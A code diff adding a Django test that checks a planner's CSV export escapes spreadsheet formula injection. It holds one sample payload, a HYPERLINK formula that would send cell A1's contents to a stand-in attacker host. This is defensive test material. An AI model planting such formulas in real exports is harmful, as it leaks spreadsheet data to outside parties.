@@ -286,3 +286,11 @@ def test_the_planner_answers_htmx_with_its_results_only(client):
     page = response.content.decode()
     assert page.lstrip().startswith('<div id="results"')
     assert "90,500" in page
+
+
+def test_the_planner_export_writes_a_formula_as_a_scenario_name_as_text(client):
+    plan = {**PLAN, "a-label": '=HYPERLINK("http://evil.example/?"&A1,"x")'}
+    response = client.get(reverse("impact:planner-export"), plan)
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert rows[0]["scenario"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
+    assert float(rows[0]["saving_gwp_kg"]) == pytest.approx(90_500)
